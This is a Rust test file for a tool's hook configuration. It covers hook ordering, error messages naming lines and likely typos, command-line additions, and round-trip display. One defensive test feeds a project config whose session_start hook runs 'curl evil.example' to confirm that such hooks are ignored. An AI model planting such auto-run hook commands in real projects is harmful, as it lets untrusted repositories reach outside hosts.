//! Hooks as written: layers in order, errors with their line, what is shown can be read again.

use std::sync::Arc;

use super::*;
use crate::config::{apply, setting, tighten};

fn read(text: &str) -> Result<Config, Wrong> {
    let mut config = Config::default();
    let source = Source::User(Arc::new("config.toml".into()), 0);
    for setting in setting::of_text(text, &source)? {
        apply::set(&mut config, &setting)?;
    }
    Ok(config)
}

#[test]
fn hooks_come_in_their_order_each_with_its_place() {
    let config = read(
        "[[hooks.pre_tool]]\ncommand = 'one'\n\n[[hooks.stop]]\ncommand = 'two'\ntimeout_seconds = 5\n\
         [[hooks.pre_tool]]\ncommand = 'three'\nmatcher = 'shell | mcp__.*'\n\
         [[hooks.post_tool]]\ncommand = 'four'\nmatcher = ['write', 'edit|read']\n",
    )
    .unwrap();
    let told: Vec<String> = config
        .hooks
        .iter()
        .map(|h| {
            let HookSpec { point, command, timeout_ms, matcher } = &h.spec;
            format!("{} {point} {command} {timeout_ms} {}", h.source, matcher.join(","))
        })
        .collect();
    assert_eq!(
        told,
        [
            "config.toml:1 pre_tool one 60000 ",
            "config.toml:7 pre_tool three 60000 shell,mcp__*",
            "config.toml:4 stop two 5000 ",
            "config.toml:10 post_tool four 60000 write,edit,read",
        ]
    );
}

#[test]
fn a_wrong_hook_names_its_line_and_what_it_resembles() {
    for (text, wanted) in [
        (
            "[[hooks.pre_tol]]\ncommand = 'x'",
            ":1: unknown key `hooks.pre_tol`; did you mean `hooks.pre_tool`?",
        ),
        (
            "[[hooks.PreToolUse]]\ncommand = 'x'",
            ":1: unknown key `hooks.PreToolUse`; did you mean `hooks.pre_tool`?",
        ),
        ("[[hooks.zebra]]\ncommand = 'x'", "the points are session_start, user_prompt,"),
        ("[[hook.stop]]\ncommand = 'x'", ":1: unknown key `hook`; did you mean `hooks`?"),
        (
            "[[hooks.stop]]\ncommand = 'x'\n[[hooks.stop]]\ncomand = 'y'",
            ":4: unknown key `hooks.stop.comand`; did you mean `hooks.stop.command`?",
        ),
        (
            "[[hooks.stop]]\ncommand = 'x'\ntimeout = 3",
            ":3: unknown key `hooks.stop.timeout`; did you mean `hooks.stop.timeout_seconds`?",
        ),
        (
            "[[hooks.stop]]\ncommand = 'x'\n\n[[hooks.stop]]\ntimeout_seconds = 3",
            ":4: hooks.stop: has no `command`",
        ),
        ("[[hooks.stop]]\ncommand = ' '", ":2: hooks.stop.command: must be a string"),
        (
            "[[hooks.stop]]\ncommand = 'x'\ntimeout_seconds = 0",
            ":3: hooks.stop.timeout_seconds: must be at least 1",
        ),
        ("[[hooks.stop]]\ncommand = 'x'\ntimeout_seconds = -1", "cannot be negative"),
        ("[[hooks.stop]]\ncommand = 'x'\ntimeout_seconds = 99999999999", "must be at most 3600"),
        ("[[hooks.stop]]\ncommand = 'x'\nmatcher = 'shell'", ":3: hooks.stop.matcher: names tools"),
        (
            "[[hooks.pre_tool]]\ncommand = 'x'\nmatcher = '^shell$'",
            ":3: hooks.pre_tool.matcher: must be tool names",
        ),
        ("[[hooks.pre_tool]]\ncommand = 'x'\nmatcher = 'a||b'", "must be tool names"),
        ("[hooks]\nstop = 'x'", ":2: hooks.stop: must be a list of tables; write [[hooks.stop]]"),
        ("[hooks.stop]\ncommand = 'x'", ":1: hooks.stop: must be a list of tables; write [[hooks.stop]]"),
        ("hooks = 3", "`hooks` is a table of keys"),
    ] {
        let said = read(text).unwrap_err();
        assert!(said.starts_with("config.toml:") && said.contains(wanted), "{text}\n{said}");
    }
}

#[test]
fn a_project_starts_no_programs() {
    let source = Source::Project(Arc::new("project.toml".into()), 0);
    let text = "mode = 'plan'\n[[hooks.session_start]]\ncommand = 'curl evil.example'";
    let mut config = Config::default();
    for setting in setting::of_text(text, &source).unwrap() {
        tighten::set(&mut config, &setting).unwrap();
    }
    assert_eq!(config.hooks, Vec::new());
    assert_eq!(config.warnings.len(), 1);
    assert!(
        config.warnings[0].starts_with("project.toml:2: `hooks.session_start` is ignored"),
        "{:?}",
        config.warnings
    );
}

#[test]
fn a_pair_on_the_command_line_adds_hooks() {
    let mut config = read("[[hooks.stop]]\ncommand = 'one'").unwrap();
    let flag = Source::Flag("-c");
    for setting in setting::of_pair("hooks.stop=[{command=\"two\"}]", &flag).unwrap() {
        apply::set(&mut config, &setting).unwrap();
    }
    let commands: Vec<_> = config.hooks().into_iter().map(|spec| spec.command).collect();
    assert_eq!(commands, ["one", "two"]);
    let bare = setting::of_pair("hooks.stop=two", &flag).unwrap();
    assert!(apply::set(&mut config, &bare[0]).unwrap_err().contains("must be a list of tables"));
}

#[test]
fn what_is_shown_can_be_read_again() {
    let config = read(
        "[[hooks.pre_tool]]\ncommand = '''\necho \"a\\b\"\n# two'''\nmatcher = 'shell|write'\n\
         [[hooks.pre_tool]]\ncommand = \"it's\"\n[[hooks.stop]]\ncommand = 'x'\ntimeout_seconds = 7",
    )
    .unwrap();
    let shown = config.show();
    let lines: Vec<_> = shown.lines().filter(|line| line.starts_with("hooks.")).collect();
    assert_eq!(lines.len(), 2, "{shown}");
    assert!(lines[0].ends_with("# config.toml:1, config.toml:6"), "{}", lines[0]);
    assert_eq!(read(&shown).unwrap().hooks(), config.hooks());
}
